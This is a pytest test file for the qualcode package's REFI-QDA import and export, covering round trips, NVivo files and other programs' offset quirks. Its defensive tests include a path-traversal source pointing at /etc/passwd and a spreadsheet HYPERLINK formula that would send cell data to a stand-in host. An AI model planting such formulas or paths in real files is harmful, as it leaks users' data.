"""REFI-QDA export and import: schema validity, the real NVivo files, quirks, round trips."""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest
from lxml import etree

import qualcode as qc
from qualcode.refi.schema import schema_errors

from .conftest import EXAMPLES, NVIVO_CODEBOOK, NVIVO_PROJECT, PROJECT_XSD
from .refi_files import CARE, CODES, HIRING, SOURCE, qde, selection, write_qdpx

KEY = ["doc_id", "start_char", "end_char", "code", "coder"]


@pytest.fixture(scope="module")
def codings(example_corpus, codebook):
    suggested = qc.suggest(example_corpus, codebook, method="keyword")
    suggested = qc.accept(suggested, code="personnel", coder="ana")
    suggested = qc.reject(suggested, code="strength", coder="ana")
    human = qc.read_codings(EXAMPLES / "human_codes_d01.csv")
    human["status"], human["method"] = "human", "human"
    return pd.concat([suggested, human], ignore_index=True)


@pytest.fixture(scope="module")
def exported(tmp_path_factory, example_corpus, codebook, codings):
    path = tmp_path_factory.mktemp("refi") / "study.qdpx"
    qc.to_qdpx(example_corpus, codebook, codings, path, include_rejected=True)
    return path


def project_qde(path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read("project.qde")


def test_export_validates_against_the_refi_schema(exported):
    assert schema_errors(project_qde(exported), PROJECT_XSD) == []


def test_export_holds_sources_codes_users_cases_and_selections(exported, example_corpus, codebook, codings):
    ns = {"q": "urn:QDA-XML:project:1.0"}
    root = etree.fromstring(project_qde(exported))
    with zipfile.ZipFile(exported) as archive:
        texts = {name for name in archive.namelist() if name.startswith("Sources/")}
    assert len(texts) == len(example_corpus.documents)
    codes = root.findall(".//q:Code", ns)
    assert len(codes) == len(codebook.ids)
    assert all(code.get("color", "").startswith("#") for code in codes)
    lenses = next(c for c in root.findall("q:CodeBook/q:Codes/q:Code", ns) if c.get("name") == "Framework lenses")
    assert len(lenses.findall("q:Code", ns)) == 4  # hierarchy kept
    users = {u.get("name") for u in root.findall(".//q:User", ns)}
    assert users == {"qualcode", "ana", "coder_a"}
    cases = root.findall(".//q:Case", ns)
    assert len(cases) == 9 and all(case.findall("q:SourceRef", ns) for case in cases)
    variables = {v.get("name") for v in root.findall(".//q:Variable", ns)}
    assert {"role", "district"} <= variables and "participant" not in variables
    selections = root.findall(".//q:PlainTextSelection", ns)
    assert len(selections) == len(codings.drop_duplicates(KEY))
    suggestion = next(s for s in selections if "Suggested by qualcode" in (s.findtext("q:Description", "", ns)))
    assert "score:" in suggestion.findtext("q:Description", "", ns)


def test_export_is_deterministic(tmp_path, example_corpus, codebook, codings, exported):
    again = qc.to_qdpx(example_corpus, codebook, codings, tmp_path / "again.qdpx", include_rejected=True)
    assert again.read_bytes() == exported.read_bytes()


def test_rejected_suggestions_are_left_out_by_default(tmp_path, example_corpus, codebook, codings):
    path = qc.to_qdpx(example_corpus, codebook, codings, tmp_path / "p.qdpx")
    back = qc.read_qdpx(path)
    assert "rejected" not in set(back.codings["status"])
    assert len(back.codings.drop_duplicates(KEY)) == int((codings["status"] != "rejected").sum())


def test_round_trip_of_qualcodes_own_project(exported, example_corpus, codebook, codings):
    back = qc.read_qdpx(exported)
    assert back.codebook == codebook
    assert back.warnings == []
    for doc in example_corpus.documents:
        assert back.corpus.text(doc.doc_id) == doc.text
    columns = [*KEY, "status", "method", "score", "evidence"]
    want = codings.drop_duplicates(KEY)[columns].sort_values(KEY).reset_index(drop=True)
    got = back.codings.drop_duplicates(KEY)[columns].sort_values(KEY).reset_index(drop=True)
    want["coder"] = want["coder"].fillna("")
    human = want["status"] == "human"  # human codes without a score read back as qualcode writes them
    want.loc[human, "score"] = want.loc[human, "score"].fillna(1.0)
    want.loc[human, "evidence"] = want.loc[human, "evidence"].fillna("human code")
    pd.testing.assert_frame_equal(got, want, check_dtype=False)
    meta = ["participant", "role", "district", "gender", "district_size"]
    original = example_corpus.segments.drop_duplicates("doc_id").set_index("doc_id")[meta].sort_index()
    imported = back.corpus.segments.drop_duplicates("doc_id").set_index("doc_id")[meta].sort_index()
    pd.testing.assert_frame_equal(imported, original)


def test_imported_codings_feed_the_other_features(exported):
    back = qc.read_qdpx(exported)
    matrix = qc.cooccurrence(back.codings, by="role")
    assert set(matrix.index.get_level_values(0)) == {"superintendent", "assistant_superintendent", "student_services"}
    assert back.codings["segment_id"].notna().all()  # qualcode's selections are whole segments


def test_qdc_round_trip_and_codes_valid_in_a_project(tmp_path, codebook):
    path = qc.to_qdc(codebook, tmp_path / "caring.qdc")
    back = qc.read_qdc(path)
    assert back.name == "caring" and back.version == "1"  # a .qdc has no place for them
    same_header = {"name": codebook.name, "version": codebook.version, "description": codebook.description}
    assert back.model_copy(update=same_header) == codebook
    # the Code elements of a .qdc are the project schema's: transplanted into a project, they validate
    codes = path.read_bytes().split(b"<Codes>", 1)[1].rsplit(b"</Codes>", 1)[0]
    assert schema_errors(qde(f"<CodeBook><Codes>{codes.decode()}</Codes></CodeBook>"), PROJECT_XSD) == []


# --- real exports from NVivo ----------------------------------------------------------------


@pytest.fixture(scope="module")
def nvivo():
    return qc.read_qdpx(NVIVO_PROJECT)


def test_nvivo_project_imports_completely(nvivo):
    assert nvivo.origin == "NVivo for Mac 12.7.0"
    assert len(nvivo.corpus.documents) == 2
    assert all(len(doc.text) > 500_000 for doc in nvivo.corpus.documents)
    assert len(nvivo.codebook.ids) == 152 and len(nvivo.codebook.codes) == 12
    assert len(nvivo.codings.drop_duplicates(KEY)) == 297  # every coding
    assert set(nvivo.users["name"]) == {"floriansipos", "Gergo"}
    assert set(nvivo.codings["coder"]) <= {"floriansipos", "Gergo"}
    assert (nvivo.codings["status"] == "human").all() and (nvivo.codings["text"].str.strip() != "").all()
    top = nvivo.codebook.codes[0]
    assert top.label == "1. Oltás típusa" and top.id == "code_1_oltas_tipusa" and top.description
    assert [child.label for child in top.children] == ["COVID", "Nem COVID"]


def test_nvivo_utf16_offsets_are_detected_and_converted(nvivo):
    assert any("UTF-16" in w for w in nvivo.warnings)
    assert set(nvivo.sources["offsets"]) == {"characters", "UTF-16 code units"}  # the uncoded source stays
    texts = {doc.doc_id: doc.text for doc in nvivo.corpus.documents}
    cut = 0
    for row in nvivo.codings.drop_duplicates(KEY).itertuples():
        text = texts[row.doc_id]
        for pos in (row.start_char, row.end_char):
            cut += 0 < pos < len(text) and text[pos - 1].isalnum() and text[pos].isalnum()
    assert cut <= 5  # read as code points, 366 of the 594 boundaries would cut a word


def test_nvivo_project_exports_again_valid_and_round_trips(tmp_path, nvivo):
    path = qc.to_qdpx(nvivo.corpus, nvivo.codebook, nvivo.codings, tmp_path / "again.qdpx")
    assert schema_errors(project_qde(path), PROJECT_XSD) == []
    back = qc.read_qdpx(path)
    assert back.codebook == nvivo.codebook
    columns = [*KEY, "status", "method", "score"]
    want = nvivo.codings.drop_duplicates(KEY)[columns].sort_values(KEY).reset_index(drop=True)
    got = back.codings.drop_duplicates(KEY)[columns].sort_values(KEY).reset_index(drop=True)
    pd.testing.assert_frame_equal(got, want)


def test_nvivo_codebook_only_project(tmp_path):
    project = qc.read_qdpx(NVIVO_CODEBOOK)
    assert len(project.codebook.ids) == 262
    assert set(project.users["name"]) == {"chrisp", "cp"}
    assert project.codings.empty and len(project.corpus) == 0
    assert list(project.sources["text_from"].str.endswith(".docx")) == [True, True]  # text only in the .docx
    assert sum("has no text" in w for w in project.warnings) == 2
    ids = project.codebook.ids
    assert len(ids) == len(set(ids)) and "rq1_definition" in ids
    saved = qc.save_project(project, tmp_path / "out")
    assert qc.load_codebook(saved / "codebook.yaml") == project.codebook


# --- quirks of other programs ---------------------------------------------------------------


def test_crlf_bom_lower_case_folder_and_missing_attributes(tmp_path):
    raw = "Interviewer: Why?\r\nAna: We hired more counselors.\r\nAna: Care matters.\r\n"
    text = raw.replace("\r\n", "\n")
    start = raw.index("hired")  # offsets count CR LF as two characters
    body = (
        CODES
        + f'<Sources><TextSource guid="{SOURCE}" name="ana/interview" plainTextPath="internal://{SOURCE}.txt">'
        + selection(start, start + len("hired more counselors"), HIRING)
        + selection(raw.index("Care"), raw.index("Care") + 12, CARE)
        + "</TextSource></Sources>"
    )
    path = write_qdpx(tmp_path / "p.qdpx", qde(body), {f"sources/{SOURCE}.txt": b"\xef\xbb\xbf" + raw.encode()})
    project = qc.read_qdpx(path)
    assert project.corpus.text("ana_interview") == text
    rows = project.codings.drop_duplicates(KEY).set_index("code")
    assert rows.loc["hiring_staff", "text"] == "hired more counselors"
    assert rows.loc["care", "text"] == "Care matters"
    assert set(project.codings["coder"]) == {"unknown"}
    assert project.codebook.get("care").color is None


def test_docx_only_source_and_relative_path(tmp_path):
    import io

    from docx import Document

    word = Document()
    word.add_paragraph("Interviewer: How do you support principals?")
    word.add_paragraph("Lee: I check in with every principal each week.")
    buffer = io.BytesIO()
    word.save(buffer)
    other = "44444444-4444-4444-4444-444444444444"
    body = (
        CODES + f'<Sources><TextSource guid="{SOURCE}" name="lee" richTextPath="internal://{SOURCE}.docx"/>'
        f'<TextSource guid="{other}" name="kim" plainTextPath="relative://transcripts/kim.txt"/>'
        '<TextSource guid="55555555-5555-5555-5555-555555555555" name="far" plainTextPath="absolute:///etc/passwd"/>'
        '<PDFSource guid="66666666-6666-6666-6666-666666666666" name="scan"/></Sources>'
    )
    files = {f"Sources/{SOURCE}.docx": buffer.getvalue(), "Sources/kim.txt": b"Kim: We built a food pantry."}
    project = qc.read_qdpx(write_qdpx(tmp_path / "p.qdpx", qde(body), files))
    assert "check in with every principal" in project.corpus.text("lee")
    assert project.corpus.text("kim") == "Kim: We built a food pantry."
    assert any("'far'" in w and "not inside the project" in w for w in project.warnings)
    assert any("PDF" in w for w in project.warnings)


def test_cases_and_variables_become_metadata(tmp_path):
    body = (
        CODES + '<Variables><Variable guid="77777777-7777-7777-7777-777777777777" name="role" typeOfVariable="Text"/>'
        '<Variable guid="88888888-8888-8888-8888-888888888888" name="years" typeOfVariable="Integer"/></Variables>'
        '<Cases><Case guid="99999999-9999-9999-9999-999999999999" name="P1">'
        '<VariableValue><VariableRef targetGUID="77777777-7777-7777-7777-777777777777"/>'
        "<TextValue>superintendent</TextValue></VariableValue>"
        '<VariableValue><VariableRef targetGUID="88888888-8888-8888-8888-888888888888"/>'
        f'<IntegerValue>12</IntegerValue></VariableValue><SourceRef targetGUID="{SOURCE}"/></Case></Cases>'
        f'<Sources><TextSource guid="{SOURCE}" name="p1"><PlainTextContent>P1: We care.</PlainTextContent>'
        + selection(4, 12, CARE)
        + "</TextSource></Sources>"
    )
    project = qc.read_qdpx(write_qdpx(tmp_path / "p.qdpx", qde(body)))
    row = project.codings.iloc[0]
    assert (row["participant"], row["role"], row["years"], row["text"]) == ("P1", "superintendent", "12", "We care.")
    assert project.metadata.to_dict("records") == [
        {"doc_id": "p1", "participant": "P1", "role": "superintendent", "years": "12"}
    ]


def test_a_hand_edited_qualcode_block_does_not_break_the_import(tmp_path):
    mangled = "--- qualcode ---\nstatus: maybe\nscore: high\n"
    body = (
        CODES + f'<Sources><TextSource guid="{SOURCE}" name="a"><PlainTextContent>We care a lot.</PlainTextContent>'
        f'<PlainTextSelection guid="12345678-1234-1234-1234-123456789012" startPosition="3" endPosition="7">'
        f'<Description>{mangled}</Description><Coding guid="12345678-1234-1234-1234-123456789013">'
        f'<CodeRef targetGUID="{CARE}"/></Coding></PlainTextSelection></TextSource></Sources>'
    )
    row = qc.read_qdpx(write_qdpx(tmp_path / "p.qdpx", qde(body))).codings.iloc[0]
    assert (row["text"], row["status"], row["score"], row["coder"]) == ("care", "human", 1.0, "unknown")


def test_atlas_ti_counts_a_crlf_once(tmp_path):
    raw = "Ana: We hired more counselors.\r\nAna: Care matters.\r\n"
    text = raw.replace("\r\n", "\n")
    start = text.index("Care")  # ATLAS.ti's offsets count the CR LF as one character
    body = (
        CODES
        + f'<Sources><TextSource guid="{SOURCE}" name="ana" plainTextPath="internal://{SOURCE}.txt">'
        + selection(start, start + len("Care matters"), CARE)
        + "</TextSource></Sources>"
    )
    path = write_qdpx(tmp_path / "p.qdpx", qde(body, origin="ATLAS.ti 23"), {f"Sources/{SOURCE}.txt": raw.encode()})
    project = qc.read_qdpx(path)
    assert project.codings["text"].tolist() == ["Care matters"]
    assert project.sources["offsets"].tolist() == ["characters, CR LF counted once"]


def test_a_case_without_a_name_holds_document_variables(tmp_path):
    body = (
        CODES + '<Variables><Variable guid="77777777-7777-7777-7777-777777777777" name="district" '
        'typeOfVariable="Text"/></Variables><Cases><Case guid="99999999-9999-9999-9999-999999999999">'
        '<VariableValue><VariableRef targetGUID="77777777-7777-7777-7777-777777777777"/>'
        f'<TextValue>D07</TextValue></VariableValue><SourceRef targetGUID="{SOURCE}"/></Case></Cases>'
        f'<Sources><TextSource guid="{SOURCE}" name="p1"><PlainTextContent>We care.</PlainTextContent>'
        + selection(3, 7, CARE)
        + "</TextSource></Sources>"
    )
    project = qc.read_qdpx(write_qdpx(tmp_path / "p.qdpx", qde(body, origin="MAXQDA 2022")))
    assert project.corpus.documents[0].metadata == {"district": "D07"}


def test_an_imported_project_cannot_plant_formulas_in_the_csv_files(tmp_path):
    """Someone else's project: a case variable and a coded passage that a spreadsheet would
    run as formulas. The imported CSVs hold them inert (a leading '), and qualcode reads
    them back as they were."""
    from xml.sax.saxutils import escape

    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
    text = f"P1: {formula} we care."
    quoted = escape(formula, {'"': "&quot;"})
    body = (
        CODES + '<Variables><Variable guid="77777777-7777-7777-7777-777777777777" name="role" typeOfVariable="Text"/>'
        "</Variables>"
        '<Cases><Case guid="99999999-9999-9999-9999-999999999999" name="P1">'
        '<VariableValue><VariableRef targetGUID="77777777-7777-7777-7777-777777777777"/>'
        f"<TextValue>{quoted}</TextValue></VariableValue>"
        f'<SourceRef targetGUID="{SOURCE}"/></Case></Cases>'
        f'<Sources><TextSource guid="{SOURCE}" name="p1"><PlainTextContent>'
        f"{escape(text)}</PlainTextContent>" + selection(4, 4 + len(formula), CARE) + "</TextSource></Sources>"
    )
    folder = qc.save_project(qc.read_qdpx(write_qdpx(tmp_path / "p.qdpx", qde(body))), tmp_path / "imported")
    for name in ("codings.csv", "participants.csv"):
        cells = [c for line in (folder / name).read_text(encoding="utf-8").splitlines() for c in line.split(",")]
        assert not any(cell.lstrip('"').startswith("=") for cell in cells), name
    assert qc.read_coded(folder / "codings.csv")["text"].iloc[0] == formula
    assert qc.read_metadata(folder / "participants.csv").loc["p1", "role"] == formula
